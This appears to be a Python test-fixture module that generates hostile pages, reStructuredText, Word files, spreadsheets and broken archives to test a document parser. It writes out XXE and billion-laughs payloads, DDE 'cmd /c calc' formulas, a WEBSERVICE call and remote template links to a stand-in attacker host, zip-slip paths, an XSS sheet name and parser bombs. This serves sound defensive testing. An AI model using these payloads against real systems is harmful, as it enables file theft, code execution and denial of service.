"""Hostile pages, reStructuredText, Word documents and workbooks, in few lines each."""

import io
import zipfile

from ..ingest import packages as office
from .attacks import EVIL, HTML, STYLE

TABLE = "<table><tr><td>Criterion<td>Tea<td>Coffee<tr><td>Taste<td>8/10<td>7/10</table>"
PAGE = f"<!DOCTYPE html><html><body><h1>Tea vs Coffee</h1>\n{TABLE}\n"
TEXT = f"Tea vs Coffee\n=============\n\n.. _a: http://{EVIL}/\n\n"
ROWS = "== ==\na  b\n== ==\n"
LONG = "Tea is good. "
ENTITIES = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 9}">' for n in range(1, 9))


def pages(canary: str, size: int) -> dict[str, str]:
    """{name: what stands in a page}; size is how often bombs repeat themselves."""
    return {
        **{name: words.replace("/CANARY/", canary) for name, words in HTML.items()},
        **{name: words.replace("/CANARY/", canary) for name, words in STYLE.items()},
        "link": f'<link rel=import href="file://{canary}"><a href="data:text/html,x">y',
        "charsets": '<meta charset="utf-7"><meta charset="utf-16">+ADw-script+AD4-',
        "plaintext": "<plaintext>" + "<p>a" * (size // 10),
        "comment": "<!--" + "<p>a" * size,
        "deep": "<div>" * size + "Tea",
        "deep_lists": "<ul><li>" * (size // 4) + "Tea",
        "deep_tables": "<table><tr><td>" * 200 + "Tea",
        "attributes": "<p " + " ".join(f"a{n}=1" for n in range(size)) + ">Tea",
        "amps": "&amp;" * size + "amp;" * size,
        "number": "<p>&#" + "9" * 5_000 + "; &#x" + "f" * 5_000 + ";",
        "nulls": "<p\0>Tea\0 is\0 good</\0p>" * 9,
        "spans": "<table><tr><td>a<td>b<tr>" + "<td colspan=1e8 rowspan=1000>\n" * size,
        "widths": "<table><tr><td colspan=998><td><tr><td><td></table>\n" * (size // 9),
        "repeats": "<table><tr><td>a<td>b<tr><td colspan=300 rowspan=300>"
        + LONG * (size // 2)
        + "<td>x"
        + "<tr><td>a" * 300,
        "cells": "<table><tr><td>a<td>b<tr>" + "<td>\n" * size,
        "sections": "<table><tr><td>a<td>b" + "<tr><td colspan=2>" * size,
        "blanks": "<p>Tea" + "\u2003" * (size * 9) + "x",
        "blank_lines": "<p>Tea" + "\u2003\n" * (size * 9) + "x",
        "title": "<title>" + " " * (size * 9) + "x</title>",
        "line": "<p>Tea is good.</p>" * (size // 10),
    }


def texts(canary: str, size: int) -> dict[str, str]:
    """{name: reStructuredText} after a heading."""
    few = min(size, 900)
    return {
        "include": f".. include:: {canary}\n\n.. literalinclude:: {canary}\n",
        "raw": f".. raw:: html\n   :file: {canary}\n\n   <b>x</b>\n",
        "values": f".. csv-table:: x\n   :file: {canary}\n   :url: http://{EVIL}/\n",
        "image": f".. image:: file://{canary}\n.. figure:: http://{EVIL}/x.png\n",
        "eval": f".. exec:: open('{canary}')\n\n.. |x| replace:: |x|\n\n|x| |x|\n",
        "quotes": "".join(" " * n + "Tea\n" for n in range(few)),
        "notes": "".join(" " * n + ".. note::\n" for n in range(few)) + "\n" * size,
        "grid_open": "+--+--+\n" + "|a |b |\n" * (size // 5),
        "grid_wide": "+" + "--+" * size + "\n" + "| a |\n" * size + "+--+--+\n",
        "grid_partial": "+----+----+\n"
        + ("|" + "a" * 9 + "|b   |\n|    +----+\n") * (size // 3)
        + "+----+----+\n",
        "simple_wide": "= " * size + "=\n" + "a b\n" * size + "= " * size + "=\n",
        "list_wide": ".. list-table::\n\n   * - a\n"
        + "     - b\n" * (size // 3)
        + "   * - c\n" * (size // 3),
        "values_wide": ".. csv-table::\n\n   " + "a," * size + "\n" + "   b\n" * size,
        "delimiter": '.. csv-table::\n   :delim: "\n\n   a"b\n   c"d\n',
        "roles": ":a" * (size * 4),
        "links": "`" + " " * (size * 9) + "\n",
        "argument": ".. a:: x" + " " * (size * 9) + "x",
        "literals": "a::\n\n b\n" * (size // 5),
        "across": "== ==\na  b\n\n.. list-table::\n\n   * - a\n     - b\n   * - c\n"
        "     - d\n\n== ==\n",
        "across_rule": ROWS.replace("a  b", "a  b\n\n.. a::\n\nc  d"),
    }


def word_parts(canary: str, size: int) -> dict[str, str]:
    """{name: the body of a Word document}."""
    wide = '<w:gridSpan w:val="{}"/>'.format
    merged, on = '<w:vMerge w:val="restart"/>', "<w:vMerge/>"
    return {
        "empty_level": office.paragraph(LONG, inner='<w:outlineLvl w:val=""/>'),
        "empty_depth": office.paragraph(LONG, inner=office.numbered(0)).replace(
            'ilvl w:val="0"', 'ilvl w:val=""'
        ),
        "field": f'<w:p><w:fldSimple w:instr="DDEAUTO c:\\cmd {EVIL}"/>'
        f"<w:r><w:instrText>INCLUDETEXT {canary}</w:instrText></w:r></w:p>"
        + office.paragraph(LONG),
        "spans": office.table(["a", "b"], [office.cell(LONG, wide(1000))] * size),
        "gaps": office.table(["a", "b"], [office.cell("", wide(998)), "b"])
        * (size // 9),
        "repeats": office.table(
            ["a", "b"],
            [office.cell(LONG * (size * 2), merged), "x"],
            *[[office.cell("", on), "x"]] * (size // 5),
        ),
        "blanks": office.paragraph("a" + "\u2003" * (size * 9) + "b"),
        "nested": "<w:tbl><w:tr><w:tc>" * 50 + "</w:tc></w:tr></w:tbl>" * 50,
        "chain": office.paragraph("a", "s0") * size,
    }


def chained(count: int) -> str:
    """Styles of which each is based on the next, and the last on the first."""
    return "".join(
        office.style(f"s{n}", f"n{n}", f'<w:basedOn w:val="s{(n + 1) % count}"/>')
        for n in range(count)
    )


def sheets(canary: str, size: int) -> dict[str, dict[str, str]]:
    """{name: {name of a sheet: its XML}}."""
    plain = office.data(office.rows(["Criterion", "Tea", "Coffee"], ["Taste", 8, 7]))
    formula = (
        '<c r="{}"><f>' + f"WEBSERVICE(&quot;http://{EVIL}/&quot;)</f><v>7</v></c>"
    )
    dde = '<c r="{}" t="str"><f>cmd|/c calc!A0</f><v>=cmd|\'/c calc\'!A0</v></c>'
    corner = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    first = '<row r="1">' + "<c><v>1</v></c>" * (size * 3) + "</row>"
    same = '<mergeCell ref="A1:A1"/>' * (size * 3)
    sparse = "".join(
        f'<row r="{n + n // 60}"><c r="{chr(65 + n % 26)}{chr(65 + n // 26 % 26)}'
        f'{n + n // 60}"><v>1</v></c><c r="A{n + n // 60}"><v>1</v></c></row>'
        for n in range(1, size)
    )
    return {
        "formulas": {"S": office.data(office.rows(["a", "b"], [formula, dde]))},
        "names": {f"../../{canary}": plain, "<svg/onload=alert(1)>|\n# x": plain},
        "corner": {"S": plain.replace("</sheetData>", f"{corner}</sheetData>")},
        "empty_rows": {"S": office.data("<row/>" * (size * 9)) + plain},
        "merges": {"S": f"{office.data(first)}<mergeCells>{same}</mergeCells>"},
        "sparse": {"S": office.data(sparse)},
        "blanks": {"S": office.data(office.rows(["a" + "\u2003" * size * 9 + "b", 1]))},
        "hidden": {"S": '<cols><col min="-1" max="9" hidden="1"/></cols>' + plain},
    }


def archives(canary: str, size: int) -> dict[str, bytes]:
    """{file name: content} of archives that are no good."""
    whole = office.docx(office.paragraph(LONG))
    torn = bytearray(whole)
    torn[60] ^= 255
    start = int.from_bytes(whole[-6:-2], "little")
    body = f"<w:body>{office.paragraph(LONG)}</w:body>"
    body = f"<w:document {office.WORD}>{body}</w:document>"
    external = (
        f'<Relationships xmlns="{office.PACKED}"><Relationship Id="r" TargetMode='
        f'"External" Target="http://{EVIL}/x.dotm"/></Relationships>'
    )
    double = io.BytesIO()
    with zipfile.ZipFile(double, "w") as archive:
        archive.writestr("word/document.xml", body)
        archive.writestr("word/Document.xml", body)
        archive.writestr(f"../..{canary}", "x")
        archive.writestr(canary, "x")
    laughs = f"<!DOCTYPE a [<!ENTITY a0 'ha'>{ENTITIES}]><a>&a8;</a>"
    outside = f'<!DOCTYPE a [<!ENTITY e SYSTEM "file://{canary}">]><a>&e;</a>'
    used = {"word/document.xml": body, "word/_rels/document.xml.rels": external}
    return {
        "laughs.docx": office.package({"word/document.xml": laughs}),
        "outside.docx": office.package({"word/document.xml": outside}),
        "template.docx": office.package(used | {"word/settings.xml": external}),
        "huge.docx": office.package({"word/document.xml": " " * (size * 20_000)}),
        "many.docx": office.package({f"word/{n}.xml": "" for n in range(size * 6)}),
        "cut.docx": whole[: len(whole) // 2],
        "head.docx": whole[40:],  # its directory leads before its start
        "torn.docx": bytes(torn),
        "far.docx": whole[:-6] + (start + 77).to_bytes(4, "little") + whole[-2:],
        "doubled.docx": double.getvalue(),
        "strings.xlsx": office.xlsx(
            {"S": office.data(office.rows(["a", "b"]))}, texts=["x" * size * 20_000]
        ),
        "repeats.xlsx": office.xlsx(
            {
                "S": office.data(
                    office.rows(*[['<c r="{}" t="s"><v>0</v></c>', 1]] * size)
                )
            },
            texts=[LONG * (size * 2)],
        ),
    }


def reader_documents(canary: str, size: int) -> dict[str, bytes]:
    """{file name: content}: one document an attack; 1,000 is the size of real ones."""
    made = {
        f"page-{n}.html": (PAGE + t).encode() for n, t in pages(canary, size).items()
    }
    made |= {
        f"rst-{n}.rst": (TEXT + t).encode() for n, t in texts(canary, size).items()
    }
    made |= {
        f"word-{name}.docx": office.docx(body, chained(size))
        for name, body in word_parts(canary, size).items()
    }
    made |= {
        f"book-{name}.xlsx": office.xlsx(parts)
        for name, parts in sheets(canary, size).items()
    }
    return made | {f"zip-{n}": data for n, data in archives(canary, size).items()}
